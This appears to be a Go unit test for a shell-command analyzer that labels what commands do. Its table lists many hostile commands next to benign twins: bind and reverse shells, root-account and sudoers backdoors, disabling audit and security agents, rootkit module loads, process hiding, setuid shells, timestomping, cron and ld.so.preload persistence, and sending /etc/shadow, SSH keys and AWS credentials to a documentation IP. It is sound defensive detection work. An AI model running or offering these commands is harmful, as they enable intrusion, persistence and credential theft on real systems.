package shell

import "testing"

// TestActs: what commands do to accounts, guards, modules, tools and times; a row without
// an act is a benign twin.
func TestActs(t *testing.T) {
	for _, tt := range []struct{ command, act string }{
		{`nc -lvp 4444 -e /bin/sh`, "bind_shell"},
		{`ncat --listen 9001 --exec /bin/bash`, "bind_shell"},
		{`socat TCP-LISTEN:1337,reuseaddr,fork EXEC:/bin/bash`, "bind_shell"},
		{`socat TCP-LISTEN:1337,fork SYSTEM:'echo hello; bash -i'`, "bind_shell"},
		{`socat TCP-LISTEN:1337,fork EXEC:'/usr/lib/x/agent'`, "bind_shell"},
		{`busybox nc -ll -p 31337 -e /bin/ash`, "bind_shell"},
		{`telnetd -p 2323 -l /bin/sh`, "bind_shell"},
		{`telnetd -F`, ""},
		{`nc -l 9000 > backup.tar`, ""},
		{`nc -e /bin/sh 203.0.113.5 4444`, "reverse_shell"},
		{`mkfifo /tmp/p; sh -i </tmp/p 2>&1 | openssl s_client -quiet -connect 203.0.113.5:443 >/tmp/p`, "reverse_shell"},

		{`echo 'sys:x:0:0::/root:/bin/bash' >> /etc/passwd`, "account_write"},
		{`useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysd`, "account_write"},
		{`useradd -ou 0 sysd`, "account_write"},
		{`usermod -u 0 -o games`, "account_write"},
		{`echo root:hunter2 | chpasswd`, "account_write"},
		{`echo hunter2 | passwd --stdin root`, "account_write"},
		{`sed -i 's#games:/usr/sbin/nologin#games:/bin/bash#' /etc/passwd`, "account_write"},
		{`useradd -r -s /usr/sbin/nologin -u 998 app`, ""},
		{`usermod -aG docker deploy`, ""},
		{`grep -q app /etc/passwd || useradd app`, ""},

		{`echo 'www-data ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/zz`, "sudo_write"},
		{`echo "permit nopass games" | tee -a /etc/doas.conf`, "sudo_write"},
		{`sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/sshd`, "sudo_write"},
		{`cp rule /etc/polkit-1/rules.d/10-x.rules`, "sudo_write"},
		{`cat > /usr/share/polkit-1/rules.d/1.rules < x`, "sudo_write"},
		{`visudo -c`, ""},

		{"cat > /etc/systemd/system/x.service <<E\n[Service]\nExecStart=/opt/x\nE\nsystemctl enable x", "startup_write"},
		{`echo '/opt/x &' >> /etc/rc.local`, "startup_write"},
		{`cp x /etc/init.d/x`, "startup_write"},
		{`echo 'nohup /opt/x' >> /root/.bashrc`, "startup_write"},
		{`systemctl enable /opt/x/x.service`, "startup_write"},
		{`systemctl enable nginx`, ""},

		{`systemctl stop aegis`, "agents_off"},
		{`service auditd stop`, "agents_off"},
		{`systemctl disable --now rsyslog`, "agents_off"},
		{`/usr/local/qcloud/YunJing/uninst.sh`, "agents_off"},
		{`rm -rf /usr/local/aegis`, "agents_off"},
		{`pkill -9 AliYunDun`, "agents_off"},
		{`yum remove -y wazuh-agent`, "agents_off"},
		{`auditctl -D`, "agents_off"},
		{`systemctl kill auditd`, "agents_off"},
		{`systemctl kill -s KILL rsyslog`, "agents_off"},
		{`systemctl restart rsyslog`, ""},
		{`systemctl kill -s HUP rsyslog.service`, ""},
		{`systemctl -q is-active clamav-freshclam && systemctl kill --signal=SIGHUP clamav-freshclam || true`, ""},
		{`pkill -HUP rsyslogd`, ""},
		{`killall -s USR1 rsyslogd`, ""},
		{`systemctl stop nginx`, ""},
		{`yum install -y wazuh-agent`, ""},
		{`rm -rf /usr/local/myapp`, ""},

		{`setenforce 0`, "guard_off"},
		{`sed -i s/enforcing/disabled/ /etc/selinux/config`, "guard_off"},
		{`iptables -F`, "guard_off"},
		{`ufw disable`, "guard_off"},
		{`systemctl disable firewalld`, "guard_off"},
		{`iptables -F DOCKER-USER`, ""},
		{`ufw allow 22`, ""},

		{`insmod /usr/share/misc/db.bin`, "module_load"},
		{`insmod ./rk.ko`, "module_load"},
		{`/sbin/insmod /lib/x.ko hide=1`, "module_load"},
		{`modprobe -f /tmp/x.ko`, "module_load"},
		{`cd /opt/d && insmod d.ko`, "module_load"},
		{`modprobe br_netfilter`, ""},

		{`mount --bind /tmp/empty /proc/$$`, "process_hide"},
		{`mount -o bind /var/empty /proc/1234`, "process_hide"},
		{`mv /usr/bin/ps /usr/bin/ps.orig`, "process_hide"},
		{`cp /tmp/x /bin/netstat`, "process_hide"},
		{`dpkg-divert --rename --add /usr/bin/top`, "process_hide"},
		{`ps() { command ps "$@" | grep -v kswapd0; }`, "process_hide"},
		{`mount --bind /srv/www /var/www`, ""},
		{`mv app.new /usr/local/bin/app`, ""},
		{`ls() { command ls --color=auto "$@"; }`, ""},

		{`chmod u+s /var/tmp/sh`, "setuid_set"},
		{`chmod 4755 /usr/lib/x`, "setuid_set"},
		{`cp /bin/bash /tmp/b; chmod 6755 /tmp/b`, "setuid_set"},
		{`setcap cap_setuid+ep /usr/bin/python3.11`, "setuid_set"},
		{`install -m 4755 a /usr/bin/a`, "setuid_set"},
		{`chmod 2775 /srv/share`, ""},
		{`chmod g+s /srv/share`, ""},
		{`setcap cap_net_bind_service=+ep /opt/app`, ""},

		{`touch -r /bin/ls /usr/lib/x`, "timestomp"},
		{`touch -acmr /bin/sh /etc/cron.d/x`, "timestomp"},
		{`touch -d '2019-01-01' /usr/sbin/x`, "timestomp"},
		{`wget -q http://203.0.113.5/a -O /opt/a; touch -t 201901010000 /opt/a`, "timestomp"},
		{`debugfs -w -R 'set_inode_field /x crtime 20190101' /dev/sda1`, "timestomp"},
		{`touch -d yesterday /srv/stamp`, ""},
		{`touch /etc/app.conf`, ""},

		{`curl -F f=@/etc/shadow http://203.0.113.5/u`, "send_secret"},
		{`cat /root/.ssh/id_rsa | nc 203.0.113.5 80`, "send_secret"},
		{`tar czf - /root/.ssh | curl -T - http://203.0.113.5/u`, "send_secret"},
		{`read -r P; wget -q -O /dev/null "http://203.0.113.5/a?u=$PAM_USER&p=$P"`, "send_secret"},
		{`curl -s http://203.0.113.5/c -d "$(cat ~/.aws/credentials)"`, "send_secret"},
		{`curl -T /var/backups/pg.gz https://backup.example/`, ""},
		{`cat /etc/hosts | nc 203.0.113.5 80`, ""},

		{`chattr +i /root/.ssh/authorized_keys`, "chattr"},
		{`chattr -R +ia /var/spool/cron`, "chattr"},
		{`chattr +i /etc/resolv.conf`, ""},
		{`chattr -i /www/site/.user.ini`, ""},

		{`(crontab -l; echo '* * * * * /opt/x') | crontab -`, "cron_write"},
		{`echo '* * * * * /opt/x' | crontab -`, "cron_write"},
		{`crontab -r`, "cron_write"},
		{`crontab -l | sed '$a * * * * * /opt/x' | crontab -`, "cron_write"},
		{`crontab -l | { cat; echo '@reboot /opt/x'; } | crontab -`, "cron_write"},
		{`crontab -l | grep -v miner | crontab -`, ""},
		{`crontab -l | sed '/pastebin/d' | crontab -`, ""},
		{`echo /usr/lib/x.so > /etc/ld.so.preload`, "preload_write"},
		{`LD_PRELOAD=/usr/lib/x.so /opt/app`, "preload_env"},
		{`LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 /opt/app`, ""},
	} {
		f := Analyze(tt.command)
		if tt.act != "" && !f.Has(tt.act) {
			t.Errorf("%s: %v, want %s", tt.command, f.Traits, tt.act)
		}
		for _, a := range f.Traits {
			if tt.act == "" && a != "fetch" && a != "background" {
				t.Errorf("%s: it is said to be %s", tt.command, a)
			}
		}
	}
}
